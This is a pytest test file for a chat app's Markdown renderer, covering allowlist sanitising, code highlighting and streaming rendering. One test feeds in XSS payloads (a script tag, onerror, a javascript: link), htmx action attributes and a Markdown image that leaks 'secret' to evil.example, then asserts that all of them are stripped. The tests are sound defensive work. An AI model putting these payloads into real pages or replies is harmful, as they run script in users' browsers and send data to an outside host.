"""Replies are rendered as Markdown through an allowlist: nothing executable survives; code is
highlighted on the server; a reply still streaming never shows Markdown syntax."""
import random
import re

import pytest

from app import markdown
from app.markdown import StreamingReply, close_unfinished, render_markdown, render_streaming_markdown


def test_formatting_survives():
    html = render_markdown("**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com)")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<li>one</li>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_nothing_executable_or_exfiltrating_survives():
    html = render_markdown(
        '<script>alert(1)</script> <img src=x onerror=alert(1)> <a href="#" hx-post="/approve">x</a> '
        '<div hx-swap-oob="true" id="composer">y</div> [js](javascript:alert(1)) ![p](https://evil.example/?q=secret) '
        '<span style="position:fixed">z</span>')
    tags = re.findall(r"<[^>]+>", html)  # what the browser would parse as markup
    assert set(tags) <= {"<p>", "</p>"}, tags
    assert "evil.example" not in html, "images (a way to leak data to another host) are dropped"
    assert "&lt;script&gt;" in html, "raw HTML is shown as text, not dropped silently"


# --- Code blocks and replies still streaming ---------------------------------------------------------

def test_code_blocks_are_highlighted_on_the_server_and_stay_escaped():
    html = render_markdown('```python\ndef f():\n    return "<b>"\n```')
    assert '<pre class="hl"><code><span class="k">def</span>' in html
    assert "&lt;b&gt;" in html and "<b>" not in html


def test_only_the_highlighters_classes_survive():
    html = render_markdown("```nolang\n<span class=\"evil\">x</span>\n```\n\n<span class=\"k\">y</span>")
    tags = re.findall(r"<[^>]+>", html)
    assert not [t for t in tags if "span" in t], tags
    assert '<pre class="hl"><code>&lt;span' in html, "an unknown language is shown plain, escaped"


@pytest.mark.parametrize("partial, shown, raw", [
    ("Hello **wor", "<strong>wor</strong>", "**"),
    ("a *b", "<em>b</em>", "*"),
    ("see [the docs](https://exa", "see the docs", "]("),
    ("```python\nx = 1", '<span class="n">x</span>', "```"),
    ("Inline `co", "<code>co</code>", "`"),
    ("Steps:\n\n1. one\n-", "<li>one</li>", "\n-"),
    ("~~gone", "<s>gone</s>", "~~"),
])
def test_a_streaming_reply_never_shows_markdown_syntax(partial, shown, raw):
    html = render_streaming_markdown(partial)
    assert shown in html
    assert raw not in re.sub(r"<[^>]+>", "", html).replace("&lt;", "<")


def test_a_streaming_reply_leaves_plain_text_as_it_is():
    assert close_unfinished("3 * 4 is 12, snake_case too") == "3 * 4 is 12, snake_case too"
    long = "\n".join(f"line {i} - of a long reply" for i in range(500))
    assert close_unfinished(long) == long
    assert close_unfinished(long + "\n# ") == long, "a lone marker on the last line is held back"
    assert render_streaming_markdown("<script>x</script> **b").count("<script>") == 0


def test_a_reply_of_one_long_paragraph_drops_only_a_lone_marker_on_its_line():
    paragraph = "word " * 3000
    assert close_unfinished(paragraph) == paragraph
    assert close_unfinished(paragraph + "\n") == paragraph
    assert close_unfinished(paragraph + "\n- ") == paragraph
    assert close_unfinished("- ") == "" and close_unfinished("12.") == ""


# A reply as a model writes one: paragraphs, lists (a loose one too), fenced code with blank lines in it,
# a quote, a table, a heading, an indented block, and, last, a link reference defined after its use.
LONG_REPLY = """Here is what I found in the **users** table.

1. The oldest rows are from 2019.
2. About `1,200` rows in all.

- first point

- second point, after a blank line (a loose list)

```python
rows = count("users")

print(rows)  # a blank line above, still the same block
```

> A quote that goes
> on for two lines.

| table | rows |
|---|---|
| users | 1200 |

## What next

    an indented block

    with a blank line inside

~~~
a tilde fence

with a blank line and no backticks
~~~

The end,
in two lines.

Three backticks (```) in a sentence open no fence.

A paragraph after them,
in two lines.

And three more (```) make their count even again.

Read [the guide][guide] before deleting anything, or *at least* the summary.

More words between.

[guide]: https://example.com/guide
The last line."""


@pytest.mark.parametrize("step", [1, 7])
def test_a_streaming_reply_renders_the_same_with_its_finished_blocks_kept(step):
    """What a stream shows (StreamingReply, which renders each finished block once) is, at every point
    of a reply, what rendering the whole reply so far shows."""
    reply = StreamingReply()
    for end in range(0, len(LONG_REPLY) + 1, step):
        assert reply.render(LONG_REPLY[:end]) == render_streaming_markdown(LONG_REPLY[:end]), LONG_REPLY[:end]


def test_a_streaming_reply_starts_again_when_its_text_is_not_the_same_reply_grown():
    reply = StreamingReply()
    reply.render("First paragraph.\n\nSecond paragraph.\n\nThird, still")
    assert reply.render("Another reply.\n\nAll new") == render_streaming_markdown("Another reply.\n\nAll new")


# Pieces of replies: mostly words and punctuation that make a plain line, some that give a line a meaning.
_PIECES = ["word ", "Word", " ", ", ", ". ", "\n", "\n\n", "*", "**", "`", "_", "[a](b)", "1. ", "- ", "# ", "é",
           "中 ", "'q' ", '"d" ', "a|b ", "x = y ", "100% ", "(c) ", "a@b.c ", "```\n", "  ", "\t", "<b>", "&amp;",
           "~~", "---\n", ">", "\u00a0", "😀", "ǅ", "ⅷ ", "http://x.y/z ", "-- ", "^{}$ ", "!"]
_WEIGHTS = [30, 10, 20, 5, 5, 3, 3] + [1] * (len(_PIECES) - 7)


def test_a_plain_line_renders_the_same_on_the_short_way():
    """A line with no Markdown in it is rendered without the parser (what a stream renders most): the
    same HTML as the parser's, for lines of every character such a line may hold and a few it may not."""
    rnd = random.Random(11)
    short_way = 0
    for _ in range(20_000):
        text = "".join(rnd.choices(_PIECES, _WEIGHTS, k=rnd.randint(1, 12))).lstrip("\n")
        if markdown._plain_from(text, 0, 0):
            short_way += 1
            assert StreamingReply().render(text) == render_streaming_markdown(text), text
    assert short_way > 2_000  # the comparison ran on many lines


def test_a_growing_reply_renders_the_same_in_and_out_of_plain_lines():
    """StreamingReply checks only the new characters of a plain last line; replies that turn Markdown
    and back, grown a few characters at a time, show what rendering them whole shows."""
    rnd = random.Random(12)
    for _ in range(400):
        text = "".join(rnd.choices(_PIECES, _WEIGHTS, k=rnd.randint(5, 60)))
        reply, end = StreamingReply(), 0
        while end < len(text):
            end = min(len(text), end + rnd.randint(1, 8))
            assert reply.render(text[:end]) == render_streaming_markdown(text[:end]), text[:end]
    reply = StreamingReply()  # and one whose text is replaced by another (not grown) checks all of it again
    reply.render("Plain words, one line")
    assert reply.render("*Not* plain words, one line") == render_streaming_markdown("*Not* plain words, one line")


def test_a_growing_reply_says_when_an_update_only_added_words_to_its_last_paragraph():
    """`StreamingReply.grown` (what a stream sends instead of the whole reply): when it is set, the
    last render ended in that paragraph and this one is the same with the characters added to it."""
    rnd = random.Random(13)
    grown = whole = 0
    for _ in range(400):
        text = "".join(rnd.choices(_PIECES, _WEIGHTS, k=rnd.randint(5, 60)))
        reply, end, last = StreamingReply(), 0, None
        while end < len(text):
            end = min(len(text), end + rnd.randint(1, 8))
            html = reply.render(text[:end])
            if reply.grown is None:
                whole += 1
            else:
                grown += 1
                before, added = reply.grown
                assert last.endswith(f"<p>{before}</p>\n"), (last, reply.grown)
                assert html == last[:-len("</p>\n")] + added + "</p>\n", text[:end]
            last = str(html)
    assert grown > 300 and whole > 300  # both kinds of update were checked, many times
    reply = StreamingReply()
    reply.render("Plain words")
    reply.render("Plain *words")  # not plain: the next render shows it whole again, also if it is plain
    reply.render("Plain words and more")
    assert reply.grown is None
